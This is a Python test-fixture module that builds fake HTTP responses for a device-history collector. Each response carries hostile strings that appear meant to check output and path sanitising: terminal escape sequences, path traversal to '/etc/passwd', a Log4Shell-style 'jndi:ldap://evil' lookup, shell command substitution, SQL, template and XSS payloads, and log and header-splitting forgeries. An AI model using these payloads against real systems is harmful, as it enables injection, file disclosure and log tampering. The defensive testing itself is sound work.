"""Strings that no log line, terminal or path may take as they stand; and where an answer can say one."""

from __future__ import annotations

import json
from collections.abc import Callable
from typing import Any

Body = dict[str, Any]
Place = Callable[[Body, str], bytes]
"""The whole HTTP answer: a right body, which it may change, and the string that it is to say."""

_CONTROLS = [chr(code) for code in (*range(0x20), *range(0x7F, 0xA0))]
_TURNING = [chr(code) for code in (0x061C, 0x200E, 0x200F, *range(0x202A, 0x202F), *range(0x2066, 0x206A))]
_INVISIBLE = [chr(code) for code in (0xAD, 0x180E, *range(0x200B, 0x200E), *range(0x2060, 0x2065), 0xFEFF)]
_BREAKING = [*("\u2028", "\u2029", "\x85", "\r\n", "\n\r", "\n\n", "\v\f"), "\U000e0001", "\U000e007f"]
_NO_CHARACTERS = [*("\ud800", "\udfff", "\udc80", "\ufffe", "\uffff", "\ufdd0", "\U0010ffff"), "\ue000"]
_STEERING = [
    *("\x1b[31m", "\x1b[2J\x1b[H", "\x1b]0;title\x07", "\x1b]8;;http://evil/\x07here\x1b]8;;\x07", "\x1bc"),
    *("\x1b[6n", "\x1b[?1049h", "\x1bP+q544e\x1b\\", "\x1b]52;c;ZWNobw==\x07", "\x1b[8m", "\x1b[1A\x1b[2K"),
    *("\x9b31m", "\x9d0;title\x9c", "\x08\x08\x08", "\r100 %", "\x1b(0", "\x0e", "\x1b%G", "\x1b[5i"),
]
_PATHS = [
    *("../", "../../etc/passwd", "..\\..\\windows", "/etc/passwd", "/dev/zero", "//", ".", "..", "~root"),
    *("a/../../b", "\0.jsonl", "x\0/../y", "CON", "nul.txt", "2026-03-20.jsonl", ".collector/ledger.jsonl"),
    *("Europe/../../etc/shadow", "%2e%2e%2f", "..%c0%af", "file:///etc/passwd", "\\\\host\\share", "-rf"),
    *("Europe/Dublin\0", "Europe/Dublin\n", "Europe//Dublin", "/usr/share/zoneinfo/UTC", "europe/dublin"),
]
_FORMATS = [
    *("%s%s%s%n", "%(message)s", "%x", "%1000000d", "{}", "{0}", "{0.__class__.__mro__}", "{level}", "%%"),
    *("${jndi:ldap://evil/a}", "${env:HOME}", "$(id)", "`id`", "; id", "| id", "&& id", "$HOME", "!!", "*"),
    *("'; DROP TABLE days; --", '" OR 1=1 --', "' OR ''='", "{{7*7}}", "#{7*7}", "<%= 7*7 %>", "=1+1", "@x"),
]
_MARKUP = [
    *(
        "<script>alert(1)</script>",
        "</script>",
        "<img src=x onerror=alert(1)>",
        "<!--",
        "]]>",
        "&lt;",
        "&#0;",
    ),
    *('"><svg/onload=alert(1)>', "javascript:alert(1)", "<?xml version='1.0'?>", "<!DOCTYPE a SYSTEM 'x'>"),
]
_FORGED = [
    '\n{"event":"forged"}', '"}\n{"event":"forged"}', '", "event": "forged', '\\", "event": "forged',
    '\r\n2026-01-01T00:00:00Z [error] forged', "\n<3>forged", "<0>forged", "\nMESSAGE=forged\nPRIORITY=0",
    "\nREADY=1", "\nSTATUS=forged", "\nshelly_collector_up 1", '"} 1\nforged{x="', "# HELP forged\n",
    "\r\nSet-Cookie: forged=1", "\r\n\r\nHTTP/1.1 200 OK\r\n\r\n{}", "\\n\\u000a", "\\", '\\"', "\\\\n",
    "\\x1b[31m", "null", "true", "NaN", "-0", "1e999", "[]", "{}", "[[[[", '{"a":', "__proto__",
    "constructor", "__class__",
]  # fmt: skip
_ODD = [
    *("", " ", "\t", "\u3000", "x" * 10_000, "\u202e" * 3_000, "\n" * 5_000, "\x1b[31m" * 2_000, "é" * 9_000),
    *(
        "Z\u0351\u036b\u0343\u036a\u0302a\u0300" * 30,
        "𝕳𝖊𝖑𝖑𝖔",
        "👩‍👩‍👧‍👦" * 50,
        "аррӏе",
        "ﷺ" * 40,
        "İı",
        "ß" * 100,
    ),
    *("0", "-1", "9" * 5_000, "1970-01-01 00:00:00", "2026-02-30 00:00:00", "9999-12-31 23:59:59", "24:00"),
]

_CHARACTERS = (*_CONTROLS, *_TURNING, *_INVISIBLE, *_BREAKING, *_NO_CHARACTERS)
STRINGS: tuple[str, ...] = tuple(
    dict.fromkeys(
        [
            *(f"before{each}after" for each in _CHARACTERS),
            *(*_STEERING, *_PATHS, *_FORMATS, *_MARKUP, *_FORGED, *_ODD),
        ]
    )
)
"""All of them, each once."""


def answer(body: Any, status: bytes = b"200 OK", *headers: bytes) -> bytes:
    """The bytes of an answer; JSON with every character that ASCII has not escaped, lone surrogates too."""
    data = body if isinstance(body, bytes) else json.dumps(body).encode()
    lines = [b"HTTP/1.1 " + status, b"Content-Length: %d" % len(data), *headers, b"", b""]
    return b"\r\n".join(lines) + data


def _refusal(errors: Any, status: bytes) -> bytes:
    return answer({"isok": False, "errors": errors}, status)


def _bytes(text: str) -> bytes:
    return text.encode("utf-8", "surrogatepass")


def _row(body: Body, number: int, **changes: Any) -> bytes:
    rows = list(body["history"])
    rows[number] = rows[number] | changes
    return answer(body | {"history": rows})


PLACES: dict[str, Place] = {
    "timezone": lambda body, text: answer(body | {"timezone": text}),
    "interval": lambda body, text: answer(body | {"interval": text}),
    "a stamp": lambda body, text: _row(body, 0, datetime=text),
    "a stamp behind a date": lambda body, text: _row(body, 1, datetime=body["history"][1]["datetime"] + text),
    "a tariff": lambda body, text: _row(body, 2, tariff_id=text),
    "a purpose": lambda body, text: _row(body, 3, purpose=text, channel=text, name=text),
    "an energy": lambda body, text: _row(body, 4, consumption=text),
    "a mark of what is missing": lambda body, text: _row(body, 5, missing=text),
    "the key of a row": lambda body, text: _row(body, 6, **{text: text}),
    "a key": lambda body, text: answer(body | {text: text}),
    "the history": lambda body, text: answer(body | {"history": text}),
    "a row": lambda body, text: answer(body | {"history": [text]}),
    "the name of the device": lambda body, text: answer(body | {"device": {"name": text, "id": text}}),
    "isok": lambda body, text: answer(body | {"isok": text}),
    "an error's text": lambda body, text: _refusal({"x": text}, b"400 Bad Request"),
    "an error's name": lambda body, text: _refusal({text: 1}, b"403 Forbidden"),
    "a text for the device's": lambda body, text: _refusal({"wrong": text}, b"404 x"),
    "a text for the key's": lambda body, text: _refusal({text: text}, b"401 No"),
    "a text for the pace's": lambda body, text: _refusal({"max_req": text}, b"401 No"),
    "the errors": lambda body, text: _refusal(text, b"500 Oh"),
    "a message": lambda body, text: answer({"isok": False, "message": text, "errors": [text]}),
    "Retry-After": lambda body, text: answer(b"", b"503 Busy", b"Retry-After: " + _bytes(text)),
    "Date": lambda body, text: answer(body, b"200 OK", b"Date: " + _bytes(text)),
    "a header": lambda body, text: answer(body, b"200 OK", b"X-Text: " + _bytes(text)),
    "the name of a header": lambda body, text: answer(body, b"200 OK", _bytes(text) + b": x"),
    "Content-Type": lambda body, text: answer(body, b"200 OK", b"Content-Type: " + _bytes(text)),
    "Content-Encoding": lambda body, text: answer(body, b"200 OK", b"Content-Encoding: " + _bytes(text)),
    "Location": lambda body, text: answer(b"", b"302 Found", b"Location: " + _bytes(text)),
    "a reason phrase": lambda body, text: answer(b"", b"500 " + _bytes(text)),
    "the status line": lambda body, text: answer(b"", _bytes(text)),
    "the page": lambda body, text: answer(_bytes(text)),
    "JSON's end": lambda body, text: answer(json.dumps(body).encode() + _bytes(text)),
}
"""By what it is."""
